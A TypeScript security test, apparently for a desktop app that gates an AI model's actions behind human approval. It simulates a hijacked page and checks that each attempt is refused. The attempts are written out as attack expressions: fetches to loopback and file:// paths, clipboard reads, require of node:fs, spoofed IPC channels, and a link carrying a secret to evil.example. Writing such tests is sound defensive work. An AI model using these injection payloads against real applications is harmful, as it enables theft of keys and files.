/** The workbench's page taken over: attacker script in its main world, with everything that the page can reach. */
import fs from 'node:fs';
import path from 'node:path';
import { invoke, talk, test, useModel } from './conversing.ts';
import { type Countersign, clickAway, expect } from './countersign.ts';
import { stranger } from './stranger.ts';

test('a workbench that was taken over cannot answer, loosen, add, read a key, or reach anything unasked', async ({
  start,
  model,
  home,
}) => {
  const countersign = await start();
  await useModel(countersign, model, 'a key of mine');
  await (await talk(countersign, 'Hello')).holds('Done.');
  await countersign.callDelete();
  const { workbench } = countersign;
  const { port, reached, close } = await stranger();
  const tried = (expression: string) =>
    workbench.evaluate(async (code) => {
      try {
        // biome-ignore lint/security/noGlobalEval: the attacker's own
        return String(await globalThis.eval(`(async () => (${code}))()`));
      } catch (error) {
        return `refused: ${String(error)}`;
      }
    }, expression);
  const attacks: Record<string, string> = {
    'a service on loopback': `fetch('http://127.0.0.1:${port}/')`,
    'the provider': `fetch('${model.address}/models')`,
    'the page of the model': `fetch('app://model/provider/models')`,
    'a file': `fetch('file://${home}/policy.json')`,
    'a window': `window.open('http://127.0.0.1:${port}/') ?? Promise.reject(new Error('none'))`,
    'the clipboard': `navigator.clipboard.readText()`,
    Node: `require('node:fs')`,
    'raw messages': `ipcRenderer.invoke('question:answerInput', {})`,
  };
  for (const [what, expression] of Object.entries(attacks))
    expect(await tried(expression), what).toMatch(/^refused: /);
  // By the bridge: channels that are not its own, and made-up ones.
  for (const channel of [
    'answerInput',
    'drawn',
    '../question:answerInput',
    'accept',
    'writePolicy',
    'addServer',
  ])
    expect(
      await tried(`window.countersign.call('${channel}', { questionId: 'x', action: 'accept' })`),
    ).not.toContain('true');
  const everything = await workbench.evaluate(async () => {
    const { countersign } = window as unknown as {
      countersign: { call: (c: string, i: unknown) => Promise<unknown> };
    };
    return JSON.stringify([
      await countersign.call('getView', null),
      document.documentElement.outerHTML,
      Object.keys(window),
      { ...localStorage },
    ]);
  });
  expect(everything).not.toContain('a key of mine');
  // What widens is asked, each time: nothing of it is in force before a person says so.
  const before = inForce(home);
  await invoke(countersign, 'chooseProvider', {
    ...{ kind: 'compatible', model: 'evil', address: `http://127.0.0.1:${port}/v1` },
  });
  await invoke(countersign, 'openLink', { url: 'https://evil.example/?secret' });
  await invoke(countersign, 'changeRoots', { serverId: 'Sample files' });
  await invoke(countersign, 'changeTraits', { serverId: 'Sample files' });
  expect(inForce(home)).toEqual(before);
  expect(
    countersign.log().filter((line) => line.event === 'question ended' && line.ending !== 'answered: accept'),
  ).toEqual([]);
  await expect
    .poll(() => countersign.log().filter((line) => line.event === 'question asked').length)
    .toBeGreaterThan(4);
  expect(countersign.events().filter((event) => event === 'answer sent')).toEqual([]);
  expect(fs.existsSync(countersign.sample())).toBe(true);
  await workbench.evaluate(() => location.assign('https://evil.example/'));
  expect(workbench.url()).toBe('app://workbench/index.html');
  expect(reached()).toBe(0);
  await decline(countersign);
  await close();
});

const inForce = (home: string): string[] =>
  ['consents.json', 'policy.json', 'servers.json'].map((name) => {
    const file = path.join(home, name);
    return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
  });

/** The person is still in charge: the delete that waits is declined. */
async function decline(countersign: Countersign): Promise<void> {
  const dialog = await countersign.dialog('Confirm deletion');
  await clickAway(dialog.getByRole('button', { name: 'Decline' }));
  await expect.poll(() => countersign.log().some((line) => line.event === 'answer sent')).toBe(true);
}
